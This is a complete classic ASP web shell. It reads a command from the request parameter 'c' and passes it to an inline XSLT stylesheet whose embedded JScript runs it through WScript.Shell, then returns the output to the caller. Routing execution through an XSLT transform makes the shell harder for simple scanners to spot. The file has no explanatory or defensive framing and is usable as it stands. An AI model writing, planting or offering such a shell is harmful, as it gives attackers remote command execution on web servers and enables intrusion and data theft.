<%
Set doc = Server.CreateObject("MSXML2.DOMDocument")
doc.loadXML "<r>" & Request("c") & "</r>"
Set sty = Server.CreateObject("MSXML2.DOMDocument")
sty.loadXML "<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""urn:u""><msxsl:script language=""JScript"" implements-prefix=""u"">function run(c){return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll();}</msxsl:script><xsl:template match=""/r""><xsl:value-of select=""u:run(string(.))""/></xsl:template></xsl:stylesheet>"
Response.Write doc.transformNode(sty)
%>
